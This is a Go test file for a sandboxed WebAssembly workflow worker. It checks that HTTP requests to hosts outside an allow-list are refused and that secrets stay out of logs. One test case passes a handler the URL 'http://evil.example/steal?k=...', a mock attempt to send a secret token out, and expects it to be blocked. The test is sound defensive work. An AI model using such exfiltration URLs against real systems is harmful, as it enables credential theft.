package worker_test

import (
	"context"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/prometheus/client_golang/prometheus/testutil"

	"github.com/pgflow-wasm/pgflow-wasm/internal/store"
	"github.com/pgflow-wasm/pgflow-wasm/internal/testkit/pgtest"
	"github.com/pgflow-wasm/pgflow-wasm/internal/testkit/workertest"
	"github.com/pgflow-wasm/pgflow-wasm/internal/worker"
	"github.com/pgflow-wasm/pgflow-wasm/sandbox"
)

func init() {
	testModules["fetch_rs"] = "modules/examples/rust/fetch.wasm"
	testModules["fetch_tg"] = "modules/examples/tinygo/fetch.wasm"
	testModules["fetch_as"] = "modules/examples/assemblyscript/fetch.wasm"
	testModules["fetch_ts"] = "modules/examples/typescript/fetch.ts"
	testModules["charge"] = "modules/examples/tinygo/charge.wasm"
	testModules["http_call"] = "modules/testdata/http_call.wasm"
}

// fetchServer serves the routes of the capability tests on 127.0.0.1.
func fetchServer(t *testing.T) (*httptest.Server, string) {
	t.Helper()
	mux := http.NewServeMux()
	mux.HandleFunc("/hello", func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, "hello, world") })
	mux.HandleFunc("/big", func(w http.ResponseWriter, r *http.Request) { _, _ = w.Write(make([]byte, 4096)) })
	mux.HandleFunc("/redirect", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, r.URL.Query().Get("to"), http.StatusFound)
	})
	mux.HandleFunc("/slow", func(w http.ResponseWriter, r *http.Request) { <-r.Context().Done() })
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)
	return srv, strings.TrimPrefix(srv.URL, "http://")
}

// Each refusal (and a server slower than the step timeout) fails only its own task, with
// its own message, in every language with a fetch example (TypeScript's fetch included),
// on both engines; the worker goes on serving the other flows.
func TestHTTPRefusalsFailOnlyTheirTask(t *testing.T) {
	t.Parallel()
	srv, srvHost := fetchServer(t)
	other, otherHost := fetchServer(t)
	_, port, _ := net.SplitHostPort(srvHost)
	type fetchCase struct {
		slug, http, url, want string // want: the task's error, or its output when ok
		ok                    bool
	}
	cases := []fetchCase{
		{"allowed", fmt.Sprintf(`{allow: ["%s"]}`, srvHost), srv.URL + "/hello", `{"bytes": 12, "status": 200}`, true},
		{"no_http", "", srv.URL + "/hello", "may not make HTTP requests: it has no `http` key in flows.yaml", false},
		{"unlisted", fmt.Sprintf(`{allow: ["%s"]}`, srvHost), other.URL + "/hello",
			"handler_error: http: host " + otherHost + " is not allowed: it matches no entry of http.allow of step", false},
		{"redirect", fmt.Sprintf(`{allow: ["%s"]}`, srvHost), srv.URL + "/redirect?to=" + other.URL + "/hello",
			"http: redirect from " + srvHost + " to " + otherHost + " refused: host " + otherHost + " is not allowed", false},
		{"by_name", fmt.Sprintf(`{allow: ["localhost:%s"]}`, port), "http://localhost:" + port + "/hello",
			"a loopback address: refused, since no http.allow entry of step", false},
		{"too_large", fmt.Sprintf(`{allow: ["%s"], max_response_bytes: 1KiB}`, srvHost), srv.URL + "/big",
			"is over the 1 KiB of http.max_response_bytes of step", false},
		{"too_many", fmt.Sprintf(`{allow: ["%s"], max_requests: 1}`, srvHost), srv.URL + "/redirect?to=/hello",
			"http: request 2 refused: step", false},
		{"slow", fmt.Sprintf(`{allow: ["%s"]}`, srvHost), srv.URL + "/slow", "Task timed out after 1s", false},
	}
	langs := []string{"rs", "tg", "as", "ts"}
	var yaml strings.Builder
	yaml.WriteString("flows:\n")
	for _, c := range cases {
		for _, lang := range langs {
			fmt.Fprintf(&yaml, "  - slug: %s_%s\n    max_attempts: 1\n    timeout: 1\n    steps:\n      - slug: fetch\n        module: \"{{fetch_%s}}\"\n", c.slug, lang, lang)
			if c.http != "" {
				fmt.Fprintf(&yaml, "        http: %s\n", c.http)
			}
		}
	}
	for _, engine := range sandbox.Engines() {
		t.Run(engine, func(t *testing.T) {
			t.Parallel()
			db := pgtest.NewDB(t)
			w := startWorker(t, db.Pool, flows(t, yaml.String()), worker.Config{Engine: engineFor(t, engine)})
			ids := map[string]string{}
			for _, c := range cases {
				for _, lang := range langs {
					flow := c.slug + "_" + lang
					ids[flow] = startRun(t, db.Pool, flow, fmt.Sprintf(`{"url": %q}`, c.url))
				}
			}
			for _, c := range cases {
				for _, lang := range langs {
					flow := c.slug + "_" + lang
					r := waitRun(t, db.Pool, ids[flow], 60*time.Second)
					task := taskOf(t, db.Pool, ids[flow])
					switch {
					case c.ok && r.Status != "completed":
						t.Errorf("%s: %s (%s)", flow, r.Status, task.Error)
					case c.ok:
						jsonEqual(t, r.Output, `{"fetch": `+c.want+`}`)
					case r.Status != "failed" || task.Status != "failed" || !strings.Contains(task.Error, c.want):
						t.Errorf("%s: run %s, task %s: %q, want an error containing %q", flow, r.Status, task.Status, task.Error, c.want)
					}
				}
			}
			// The worker goes on: the allowed flow still runs.
			if r := waitRun(t, db.Pool, startRun(t, db.Pool, "allowed_tg", fmt.Sprintf(`{"url": %q}`, srv.URL+"/hello")), 30*time.Second); r.Status != "completed" {
				t.Errorf("after the refusals: %s (%s)", r.Status, r.Error)
			}
			// Metrics: requests by allow entry, denials by reason, per step.
			m := w.Metrics
			if n := testutil.ToFloat64(m.HTTPRequests.WithLabelValues("allowed_rs", "fetch", srvHost, "2xx")); n != 1 {
				t.Errorf("requests of allowed_rs: %v, want 1", n)
			}
			if n := testutil.ToFloat64(m.HTTPBytes.WithLabelValues("allowed_rs", "fetch", srvHost, "received")); n != 12 {
				t.Errorf("bytes received by allowed_rs: %v, want 12", n)
			}
			for flow, reason := range map[string]string{"no_http_as": "denied", "unlisted_tg": "host_not_allowed", "redirect_rs": "host_not_allowed",
				"by_name_as": "address_refused", "too_large_tg": "response_too_large", "too_many_rs": "too_many_requests"} {
				if n := testutil.ToFloat64(m.HTTPDenials.WithLabelValues(flow, "fetch", reason)); n != 1 {
					t.Errorf("denials of %s for %s: %v, want 1", flow, reason, n)
				}
			}
			if n := testutil.ToFloat64(m.HTTPRequests.WithLabelValues("slow_rs", "fetch", srvHost, "timeout")); n != 1 {
				t.Errorf("timed-out requests of slow_rs: %v, want 1", n)
			}
			if n := w.Metrics.TasksTimedOut.WithLabelValues("slow_as", "fetch"); testutil.ToFloat64(n) != 1 {
				t.Errorf("slow_as timed out %v times, want 1", testutil.ToFloat64(n))
			}
		})
	}
}

// engineFor returns a sandbox engine by name, closed when the test ends.
func engineFor(t *testing.T, name string) sandbox.Engine { return engine(t, name) }

// The docs' charge example: secrets from the worker's environment by name, the same
// idempotency key on every attempt, and a secret that shows in no log line (at debug
// level), no error and no `runs`/`run` output. Not parallel: it sets environment variables.
func TestSecretsAndIdempotencyKeys(t *testing.T) {
	const token = "sk_test_Zq8rW3kV9xY2mN5p" // the secret
	var mu sync.Mutex
	seen := map[string][]string{} // idempotency key -> the Authorization headers of its attempts
	api := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		key := r.Header.Get("Idempotency-Key")
		body, _ := io.ReadAll(r.Body)
		mu.Lock()
		seen[key] = append(seen[key], r.Header.Get("Authorization"))
		attempt := len(seen[key])
		mu.Unlock()
		switch {
		case r.URL.Path != "/charges" || r.Method != "POST" || string(body) != `{"amount":1200,"currency":"eur","customer":"cus_42"}`:
			http.Error(w, "bad request", http.StatusBadRequest)
		case attempt == 1: // the first attempt meets an outage: pgflow retries the task
			http.Error(w, "try again", http.StatusServiceUnavailable)
		default:
			fmt.Fprintf(w, `{"id":"ch_%d","status":"succeeded"}`, len(key))
		}
	}))
	defer api.Close()
	apiHost := strings.TrimPrefix(api.URL, "http://")
	t.Setenv("PAYMENTS_URL", api.URL)
	t.Setenv("PAYMENTS_TOKEN", token)

	db := pgtest.NewDB(t)
	f := flows(t, fmt.Sprintf(`
flows:
  - slug: checkout
    base_delay: 0
    steps:
      - slug: charge
        module: "{{charge}}"
        http: {allow: ["%[1]s"]}
        env: [PAYMENTS_URL, PAYMENTS_TOKEN]
  - slug: leaky
    max_attempts: 1
    steps:
      - slug: call
        module: "{{http_call}}"
        http: {allow: ["%[1]s"]}
        env: [PAYMENTS_TOKEN]
`, apiHost))
	logs := &syncBuffer{}
	log := slog.New(slog.NewTextHandler(logs, &slog.HandlerOptions{Level: slog.LevelDebug}))
	startWorker(t, db.Pool, f, worker.Config{Log: log})

	id := startRun(t, db.Pool, "checkout", `{"amount": 1200, "currency": "eur", "customer": "cus_42"}`)
	r := waitRun(t, db.Pool, id, 60*time.Second)
	if r.Status != "completed" {
		t.Fatalf("checkout: %s (%s)", r.Status, r.Error)
	}
	wantKey := id + ":charge:0"
	jsonEqual(t, r.Output, fmt.Sprintf(`{"charge": {"charge_id": "ch_%d", "status": "succeeded"}}`, len(wantKey)))
	mu.Lock()
	attempts := seen[wantKey]
	mu.Unlock()
	if len(attempts) != 2 || attempts[0] != "Bearer "+token || attempts[1] != "Bearer "+token {
		t.Errorf("attempts with idempotency key %s: %v (all keys: %v); want two, each with the token", wantKey, attempts, seen)
	}
	if task := taskOf(t, db.Pool, id); task.Attempts != 2 {
		t.Errorf("charge took %d attempts, want 2 (the first met a 503)", task.Attempts)
	}

	// A handler that read the secret, then was refused.
	leaky := startRun(t, db.Pool, "leaky", fmt.Sprintf(`{"url": "http://evil.example/steal?k=%s", "token_env": "PAYMENTS_TOKEN"}`, "x"))
	if r := waitRun(t, db.Pool, leaky, 30*time.Second); r.Status != "failed" || !strings.Contains(r.Error, "host evil.example:80 is not allowed") {
		t.Errorf("leaky: %s (%s)", r.Status, r.Error)
	}

	ctx := context.Background()
	var out strings.Builder
	list, err := workertest.Store(t, db.Pool).List(ctx, store.RunFilter{})
	if err != nil {
		t.Fatal(err)
	}
	fmt.Fprintf(&out, "%+v\n", list)
	for _, run := range []string{id, leaky} {
		tree, err := workertest.Store(t, db.Pool).GetTree(ctx, run)
		if err != nil {
			t.Fatal(err)
		}
		tree.Render(&out, 0)
		fmt.Fprintf(&out, "%+v\n", tree)
	}
	if !strings.Contains(out.String(), "is not allowed") || !strings.Contains(logs.String(), "task started") {
		t.Fatalf("the test looks at the wrong output:\n%s\n%s", out.String(), logs.String())
	}
	for what, text := range map[string]string{"runs/run output": out.String(), "debug log": logs.String()} {
		if strings.Contains(text, token) || strings.Contains(text, token[8:]) {
			t.Errorf("the secret shows in the %s:\n%s", what, text)
		}
	}
}
